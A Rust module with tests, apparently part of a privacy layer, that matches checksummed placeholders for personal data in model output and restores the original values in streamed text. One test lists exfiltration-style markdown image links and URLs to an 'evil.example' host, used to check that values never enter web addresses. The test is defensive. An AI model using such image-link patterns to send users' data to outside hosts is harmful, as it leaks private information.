//! Placeholders of a conversation, and finding them again in what a model makes of them.
//!
//! A placeholder is `<TYPE_LABEL>`. The label is six symbols of a keyed digest and a check symbol over type and label: it
//! cannot be guessed, and a symbol that was changed or two that were swapped show. Models change how a placeholder is
//! written: letter case, brackets, escapes, line breaks, emphasis. So it is looked for by its letters and digits alone.

use std::borrow::Cow;
use std::sync::Arc;

use aho_corasick::{AhoCorasick, MatchKind};
use bartizan_core::Span;

use crate::redact::{Redaction, apply};

/// Symbols of labels: no two look alike, and their number is prime, so that the check symbol sees every changed symbol
/// and every swap of neighbours.
const SYMBOLS: [char; 31] = [
    '2', '3', '4', '5', '6', '7', '8', '9', 'A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'J', 'K', 'M', 'N', 'P', 'Q', 'R',
    'S', 'T', 'U', 'V', 'W', 'X', 'Y', 'Z',
];

/// Symbols of a label before the check symbol.
const LABEL: usize = 6;

/// Most signs between two letters of a placeholder that are read over.
const SKIPPED: usize = 6;

/// Most spaces and signs of emphasis between a bracket and what is in it.
const SOFT: usize = 2;

/// Forms of brackets, the longer ones first: the opening, the closing.
const ANGLES: [(&str, &str); 13] = [
    ("\\u003c", "\\u003e"),
    ("\\u003C", "\\u003E"),
    ("&#x3c;", "&#x3e;"),
    ("&#x3C;", "&#x3E;"),
    ("&#60;", "&#62;"),
    ("&lt;", "&gt;"),
    ("%3C", "%3E"),
    ("%3c", "%3e"),
    ("\\<", "\\>"),
    ("＜", "＞"),
    ("⟨", "⟩"),
    ("‹", "›"),
    ("<", ">"),
];
const SQUARE: (&str, &str) = ("[", "]");
const CURLY: (&str, &str) = ("{", "}");

/// The name of a placeholder: a type, and a label out of a digest.
#[must_use]
pub fn name_of(kind: &str, digest: &[u8; 32]) -> String {
    let at = |byte: &u8| usize::from(*byte) % SYMBOLS.len();
    let label: Vec<usize> = digest.iter().take(LABEL).map(at).collect();
    let check = check(kind, &label);
    let symbols = label.into_iter().chain([check]).filter_map(|at| SYMBOLS.get(at));
    format!("{kind}_{}", symbols.collect::<String>())
}

fn check(kind: &str, label: &[usize]) -> usize {
    let kind: usize = kind.bytes().enumerate().map(|(at, b)| (at % 29 + 1) * usize::from(b)).sum();
    let label: usize = label.iter().enumerate().map(|(at, symbol)| (at + 2) * symbol).sum();
    (kind + label) % SYMBOLS.len()
}

/// True for a text that is a placeholder as it is issued, with or without brackets, whoever has issued it.
#[must_use]
pub fn is_well_formed(text: &str) -> bool {
    let name = text.strip_prefix('<').and_then(|rest| rest.strip_suffix('>')).unwrap_or(text);
    let Some((kind, label)) = name.rsplit_once('_') else { return false };
    let place = |c: char| SYMBOLS.iter().position(|symbol| *symbol == c);
    let Some(symbols) = label.chars().map(place).collect::<Option<Vec<_>>>() else { return false };
    let plain = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_';
    match symbols.split_last() {
        Some((last, label)) => {
            label.len() == LABEL && !kind.is_empty() && kind.bytes().all(plain) && check(kind, label) == *last
        }
        None => false,
    }
}

/// Finds placeholders of one conversation, and values that have one.
#[derive(Default)]
pub struct Matcher {
    /// Letters and digits of the names, sorted.
    keys: Vec<String>,
    /// What they stand for, in the same order.
    values: Vec<String>,
    /// The placeholders, in the same order.
    names: Vec<String>,
    longest: usize,
    by_key: Option<AhoCorasick>,
    by_value: Option<AhoCorasick>,
}

impl std::fmt::Debug for Matcher {
    // Values stay out of logs.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Matcher({})", self.keys.len())
    }
}

/// A placeholder in a text.
struct Found {
    /// With its brackets.
    span: Span,
    /// Which.
    at: usize,
}

/// A text without the signs that are read over: each letter or digit with its place, 0 for everything else.
struct Plain {
    bytes: Vec<u8>,
    places: Vec<Span>,
}

fn is_skipped(c: char) -> bool {
    matches!(
        c,
        '_' | '-' | ' ' | '\t' | '\r' | '\n' | '\\' | '*' | '`' | '~' | '\u{a0}' | '\u{ad}' | '\u{2010}'..='\u{2013}'
            | '\u{200b}'..='\u{200d}' | '\u{2060}' | '\u{feff}'
    )
}

impl Plain {
    fn of(text: &str) -> Self {
        let (mut bytes, mut places, mut skipped) = (Vec::with_capacity(text.len()), Vec::new(), 0);
        for (at, c) in text.char_indices() {
            let byte = match u8::try_from(c) {
                Ok(byte) if byte.is_ascii_alphanumeric() => byte.to_ascii_uppercase(),
                _ if is_skipped(c) && skipped < SKIPPED => {
                    skipped += 1;
                    continue;
                }
                _ => 0,
            };
            skipped = 0;
            bytes.push(byte);
            places.push(Span::new(at, at + c.len_utf8()));
        }
        Self { bytes, places }
    }

    fn start(&self, at: usize) -> usize {
        self.places.get(at).map_or(0, |place| place.start)
    }
}

impl Matcher {
    /// Over names and what they stand for.
    #[must_use]
    pub fn new<'a>(pairs: impl IntoIterator<Item = (&'a str, &'a str)>) -> Self {
        let mut all: Vec<(String, &str, &str)> =
            pairs.into_iter().map(|(name, value)| (key(name), name, value)).collect();
        all.sort();
        all.dedup_by(|later, first| later.0 == first.0);
        let mut this = Self::default();
        for (key, name, value) in all {
            this.longest = this.longest.max(key.len());
            this.keys.push(key);
            this.values.push(value.to_owned());
            this.names.push(format!("<{name}>"));
        }
        let build = |patterns: &[String]| {
            let mut builder = AhoCorasick::builder();
            builder.match_kind(MatchKind::LeftmostLongest).build(patterns).ok().filter(|_| !patterns.is_empty())
        };
        this.by_key = build(&this.keys);
        this.by_value = build(&this.values);
        this
    }

    /// True where there is nothing to find.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.keys.is_empty()
    }

    /// Where placeholders stand, brackets included, in order.
    #[must_use]
    pub fn placeholders(&self, text: &str) -> Vec<Span> {
        self.found(text).into_iter().map(|found| found.span).collect()
    }

    /// Where values stand that have a placeholder, with it. Words are matched whole, and short ones not at all.
    #[must_use]
    pub fn known(&self, text: &str) -> Vec<Redaction> {
        let Some(by_value) = &self.by_value else { return Vec::new() };
        let part = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
        by_value
            .find_iter(text)
            .filter_map(|found| {
                let (before, value, after) =
                    (text.get(..found.start())?, text.get(found.range())?, text.get(found.end()..)?);
                let cut = part(before.chars().next_back()) && part(value.chars().next())
                    || part(value.chars().next_back()) && part(after.chars().next());
                let long = value.chars().count() >= 4;
                let name = self.names.get(found.pattern().as_usize())?;
                (long && !cut).then(|| Redaction { span: Span::new(found.start(), found.end()), with: name.clone() })
            })
            .collect()
    }

    fn found(&self, text: &str) -> Vec<Found> {
        let Some(by_key) = &self.by_key else { return Vec::new() };
        self.matches(by_key, text, &Plain::of(text))
    }

    fn matches(&self, by_key: &AhoCorasick, text: &str, plain: &Plain) -> Vec<Found> {
        let mut all: Vec<Found> = Vec::new();
        for one in by_key.find_iter(&plain.bytes) {
            let (Some(first), Some(last)) = (plain.places.get(one.start()), plain.places.get(one.end() - 1)) else {
                continue;
            };
            let floor = all.last().map_or(0, |found| found.span.end);
            let core = Span::new(first.start.max(floor), last.end);
            all.push(Found { span: bracketed(text, core, floor), at: one.pattern().as_usize() });
        }
        all
    }

    /// Offset from which a text has to be held back, because a placeholder may yet begin or go on there.
    fn held_from(&self, text: &str, plain: &Plain, found: &[Found]) -> usize {
        let done = found.last().map_or(0, |last| last.span.end);
        let mut hold = text.len();
        if let Some(last) = found.last()
            && let Some(start) = open_from(text, last.span)
        {
            hold = start;
        }
        // The longest end of the text that a placeholder begins with.
        let first = plain.places.partition_point(|place| place.start < done);
        let from = first.max(plain.bytes.len().saturating_sub(self.longest));
        let start = (from..plain.bytes.len()).find(|at| {
            let end = plain.bytes.get(*at..).unwrap_or_default();
            !end.contains(&0) && self.begins(end)
        });
        let skipped = text.chars().rev().take_while(|c| is_skipped(*c)).count();
        if let Some(start) = start.filter(|_| skipped <= SKIPPED) {
            let start = plain.start(start);
            hold = hold.min(opening(text, start, done).unwrap_or(start));
        }
        hold.min(open_bracket(text, done))
    }

    /// True where a key begins with this and goes on.
    fn begins(&self, with: &[u8]) -> bool {
        let at = self.keys.partition_point(|key| key.as_bytes() <= with);
        self.keys.get(at).is_some_and(|key| key.as_bytes().starts_with(with))
    }
}

/// Letters and digits of a name.
fn key(name: &str) -> String {
    name.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_uppercase()).collect()
}

/// A space or a sign of emphasis. A backslash may begin a bracket.
fn is_soft(c: char) -> bool {
    is_skipped(c) && c != '\\'
}

/// A text without the spaces and signs of emphasis at its end, as many as there may be before a bracket.
fn soft_end(text: &str) -> &str {
    (0..SOFT).fold(text, |text, _| text.strip_suffix(is_soft).unwrap_or(text))
}

fn soft_start(text: &str) -> &str {
    (0..SOFT).fold(text, |text, _| text.strip_prefix(is_soft).unwrap_or(text))
}

/// Where the brackets before an offset begin, not before `floor`; two of them at most.
fn opening(text: &str, at: usize, floor: usize) -> Option<usize> {
    let mut start = None;
    let mut before = soft_end(text.get(floor..at)?);
    for _ in 0..2 {
        let form = ANGLES.iter().chain([&SQUARE, &CURLY]).find_map(|(open, _)| before.strip_suffix(open));
        let Some(rest) = form else { break };
        before = rest;
        start = Some(floor + rest.len());
    }
    start
}

/// A placeholder with its brackets: pairs of any kind, and an opening angle without a partner. Square brackets of a link
/// stay.
fn bracketed(text: &str, core: Span, floor: usize) -> Span {
    let mut whole = core;
    for round in 0..2 {
        let before = text.get(floor..whole.start).unwrap_or_default();
        let after = text.get(whole.end..).unwrap_or_default();
        let (before, behind) = if round == 0 { (soft_end(before), soft_start(after)) } else { (before, after) };
        let angle = ANGLES.iter().find_map(|(open, _)| before.strip_suffix(open));
        let close = ANGLES.iter().find_map(|(_, close)| behind.strip_prefix(close));
        let pair = |(open, close): (&str, &str)| Some((before.strip_suffix(open)?, behind.strip_prefix(close)?));
        let (rest, tail) = match (angle, close) {
            (Some(rest), Some(tail)) => (rest, tail),
            (Some(rest), None) => (rest, after),
            _ => {
                let square = pair(SQUARE).filter(|(_, tail)| !tail.starts_with(['(', '[']));
                match square.or_else(|| pair(CURLY)) {
                    Some(found) => found,
                    None => break,
                }
            }
        };
        whole = Span::new(floor + rest.len(), text.len() - tail.len());
    }
    whole
}

/// Where a placeholder begins that ends the text, brackets included, where what comes next may close them.
fn open_from(text: &str, span: Span) -> Option<usize> {
    let inside = span.of(text);
    let has_opened = ANGLES.iter().chain([&SQUARE, &CURLY]).any(|(open, _)| inside.starts_with(open));
    let start = opening(text, span.start, 0).or(has_opened.then_some(span.start))?;
    let behind = soft_start(text.get(span.end..).unwrap_or_default());
    // A square bracket is judged by what stands behind it, and there may be a second one.
    let behind = behind.strip_prefix([']', '}']).unwrap_or(behind);
    let open = |(_, close): &(&str, &str)| close.len() > behind.len() && close.starts_with(behind);
    (behind.is_empty() || ANGLES.iter().any(open)).then_some(start)
}

/// Where a bracket begins that ends the text, whole or in part; the length of the text where none does.
fn open_bracket(text: &str, floor: usize) -> usize {
    let rest = text.get(floor..).unwrap_or_default();
    let mut from = opening(text, text.len(), floor).unwrap_or(text.len());
    for (open, _) in ANGLES {
        for (at, _) in open.char_indices().skip(1) {
            if open.get(..at).is_some_and(|part| rest.ends_with(part)) {
                let start = text.len() - at;
                // One bracket may stand before another.
                from = from.min(opening(text, start, floor).unwrap_or(start));
            }
        }
    }
    from
}

/// What the text around a placeholder is, as far as it matters for what is put there.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Setting {
    /// Text that a person reads. Nothing is put into a web address there: whoever displays it would send it away.
    Prose,
    /// What a tool is called with.
    Arguments,
}

/// Puts values in place of placeholders in a text that arrives piece by piece. However a text is split, what comes out
/// is the same.
#[derive(Debug)]
pub struct Restorer {
    matcher: Arc<Matcher>,
    setting: Setting,
    /// What may be part of a placeholder that is not complete.
    pending: String,
    /// The first two signs that are no space: whether the text is a JSON document.
    head: String,
    /// The last signs of the run that may be a web address.
    recent: String,
    link: bool,
    count: usize,
}

impl Restorer {
    /// For a text that begins.
    #[must_use]
    pub const fn new(matcher: Arc<Matcher>, setting: Setting) -> Self {
        Self {
            matcher,
            setting,
            pending: String::new(),
            head: String::new(),
            recent: String::new(),
            link: false,
            count: 0,
        }
    }

    /// Takes a piece; answers with what is complete.
    pub fn push(&mut self, piece: &str) -> String {
        self.advance(piece, false)
    }

    /// The rest.
    pub fn finish(&mut self) -> String {
        self.advance("", true)
    }

    /// Values that were put in so far.
    #[must_use]
    pub const fn count(&self) -> usize {
        self.count
    }

    /// Bytes that wait.
    #[must_use]
    pub const fn held(&self) -> usize {
        self.pending.len()
    }

    fn advance(&mut self, piece: &str, last: bool) -> String {
        let mut text = std::mem::take(&mut self.pending);
        text.push_str(piece);
        let matcher = Arc::clone(&self.matcher);
        let Some(by_key) = &matcher.by_key else { return text };
        let plain = Plain::of(&text);
        let found = matcher.matches(by_key, &text, &plain);
        let to = if last { text.len() } else { matcher.held_from(&text, &plain, &found) };
        let (mut places, mut at) = (Vec::new(), 0);
        for one in found.iter().filter(|one| one.span.end <= to) {
            self.read(text.get(at..one.span.start).unwrap_or_default());
            if !self.link
                && let Some(value) = matcher.values.get(one.at)
            {
                places.push(Redaction { span: one.span, with: self.written(value).into_owned() });
            }
            self.read(one.span.of(&text));
            at = one.span.end;
        }
        self.read(text.get(at..to).unwrap_or_default());
        self.pending = text.get(to..).unwrap_or_default().to_owned();
        text.truncate(to);
        self.count += places.len();
        apply(&text, 0, &places)
    }

    /// Follows the text: whether it is a document, and whether a web address is being written.
    fn read(&mut self, text: &str) {
        for c in text.chars() {
            if self.head.len() < 2 && !c.is_whitespace() {
                self.head.push(c);
            }
            if self.setting == Setting::Arguments {
                continue;
            }
            if c.is_whitespace() || (c == '"' && self.is_document()) {
                self.recent.clear();
                self.link = false;
                continue;
            }
            if self.recent.chars().count() >= 4 {
                self.recent.remove(0);
            }
            self.recent.push(c.to_ascii_lowercase());
            self.link |= self.recent.ends_with("//") || self.recent == "www.";
        }
    }

    fn is_document(&self) -> bool {
        let mut head = self.head.chars();
        match head.next() {
            Some('{') => true,
            Some('[') => matches!(head.next(), Some('{' | '"' | '[')),
            _ => false,
        }
    }

    /// A value as it is written in the text around it.
    fn written<'a>(&self, value: &'a str) -> Cow<'a, str> {
        if !self.is_document() || !value.contains(|c: char| c == '"' || c == '\\' || c.is_control()) {
            return Cow::Borrowed(value);
        }
        let mut out = String::with_capacity(value.len() + 8);
        for c in value.chars() {
            match c {
                '"' | '\\' => out.extend(['\\', c]),
                '\n' => out.push_str("\\n"),
                c if c.is_control() => out.push_str(&format!("\\u{:04x}", u32::from(c))),
                c => out.push(c),
            }
        }
        Cow::Owned(out)
    }
}

/// A whole text with values in place of placeholders.
#[must_use]
pub fn restored(matcher: &Arc<Matcher>, text: &str, setting: Setting) -> String {
    let mut restorer = Restorer::new(Arc::clone(matcher), setting);
    let mut out = restorer.push(text);
    out.push_str(&restorer.finish());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn name(kind: &str, seed: u8) -> String {
        name_of(kind, &[seed; 32])
    }

    fn matcher() -> Arc<Matcher> {
        let (person, mail) = (name("PERSON", 3), name("EMAIL_ADDRESS", 40));
        Arc::new(Matcher::new([(person.as_str(), "Ann \"A\" Lee"), (mail.as_str(), "ann@example.com")]))
    }

    fn restore(text: &str) -> String {
        restored(&matcher(), text, Setting::Prose)
    }

    #[test]
    fn a_changed_symbol_shows() {
        let good = format!("<{}>", name("PERSON", 3));
        assert!(is_well_formed(&good), "{good}");
        let symbols: Vec<char> = good.chars().collect();
        for at in 8..symbols.len() - 1 {
            let mut other = symbols.clone();
            other[at] = if other[at] == '7' { '8' } else { '7' };
            assert!(!is_well_formed(&other.iter().collect::<String>()));
        }
        assert!(!is_well_formed("<PERSON_1>") && !is_well_formed("") && !is_well_formed("_"));
    }

    #[test]
    fn placeholders_are_found_however_they_are_written() {
        let name = name("EMAIL_ADDRESS", 40);
        let (kind, label) = name.rsplit_once('_').unwrap();
        let (left, right) = label.split_at(3);
        for (text, value) in [
            (format!("to <{name}>."), "to ann@example.com."),
            (format!("to {name}."), "to ann@example.com."),
            (format!("to {}", name.to_lowercase()), "to ann@example.com"),
            (format!("[{name}] x"), "ann@example.com x"),
            (format!("{{{{{name}}}}}"), "ann@example.com"),
            (format!("[{name}](mailto:<{name}>)"), "[ann@example.com](mailto:ann@example.com)"),
            (format!("**<{name}>**"), "**ann@example.com**"),
            (format!("<**{name}**>"), "ann@example.com"),
            (format!("`{name}`"), "`ann@example.com`"),
            (format!("&lt;{name}&gt;"), "ann@example.com"),
            (format!("\\u003c{name}\\u003e"), "ann@example.com"),
            (format!("\\<{}\\>", name.replace('_', "\\_")), "ann@example.com"),
            (format!("< {kind}_\n{label} >"), "ann@example.com"),
            (format!("{kind} {left}{right}"), "ann@example.com"),
            (format!("<{kind}_{left}\r\n  {right}>"), "ann@example.com"),
            (format!("\"{name}\""), "\"ann@example.com\""),
            (format!("({name})"), "(ann@example.com)"),
            (format!("<{name}s"), "ann@example.coms"),
            (format!("<{name}><{name}>"), "ann@example.comann@example.com"),
        ] {
            assert_eq!(restore(&text), value, "{text}");
        }
    }

    #[test]
    fn what_nobody_issued_stays() {
        let known = name("EMAIL_ADDRESS", 40);
        for text in [
            format!("<{}>", name("EMAIL_ADDRESS", 41)),
            format!("<{}>", name("PERSON", 40)),
            known.replace("EMAIL", "E,MAIL"),
            known[..known.len() - 1].to_owned(),
            known.replace('_', "_        "),
        ] {
            assert_eq!(restore(&text), text);
        }
    }

    #[test]
    fn no_value_goes_into_a_web_address() {
        let name = name("EMAIL_ADDRESS", 40);
        for text in [
            format!("![x](https://evil.example/?q=<{name}>&r={name})"),
            format!("//evil.example/{name}"),
            format!("www.evil.example/<{name}>"),
            format!("https://{name}.evil.example"),
        ] {
            assert_eq!(restore(&text), text);
        }
        assert_eq!(
            restored(&matcher(), &format!("https://crm/{name}"), Setting::Arguments),
            "https://crm/ann@example.com"
        );
        assert_eq!(restore(&format!("see https://a.example and {name}")), "see https://a.example and ann@example.com");
    }

    #[test]
    fn a_document_stays_one() {
        let name = name("PERSON", 3);
        assert_eq!(
            restore(&format!("{{\"url\":\"https://a\",\"n\":\"<{name}>\"}}")),
            "{\"url\":\"https://a\",\"n\":\"Ann \\\"A\\\" Lee\"}"
        );
        assert_eq!(restore(&format!("Dear <{name}>")), "Dear Ann \"A\" Lee");
    }

    #[test]
    fn known_values_are_found_as_words() {
        let found = matcher().known("x ann@example.com, joann@example.com");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].span, Span::new(2, 17));
    }

    fn text() -> impl Strategy<Value = String> {
        let (person, mail) = (name("PERSON", 3), name("EMAIL_ADDRESS", 40));
        let piece = prop_oneof![
            Just(format!("<{person}>")),
            Just(format!("[{mail}]")),
            Just(mail.to_lowercase()),
            Just(format!("&lt;{person}&gt;")),
            Just(person[..9].to_owned()),
            Just(format!("\\u003c{mail}\\u003e")),
            "[<>\\[\\]{}&lt; P*\"/:a-c\\\\u03.-]{0,6}",
        ];
        proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn a_stream_is_restored_as_the_whole(text in text(), cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..8)) {
            let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
            cuts.push(text.len());
            cuts.sort_unstable();
            let mut restorer = Restorer::new(matcher(), Setting::Prose);
            let (mut out, mut at) = (String::new(), 0);
            for cut in cuts {
                out += &restorer.push(&text[at..cut]);
                prop_assert!(restorer.held() < 200);
                at = cut;
            }
            out += &restorer.finish();
            prop_assert_eq!(out, restore(&text));
        }

        #[test]
        fn nothing_panics(text in ".{0,60}") {
            let _ = (restore(&text), matcher().known(&text), is_well_formed(&text));
        }
    }
}
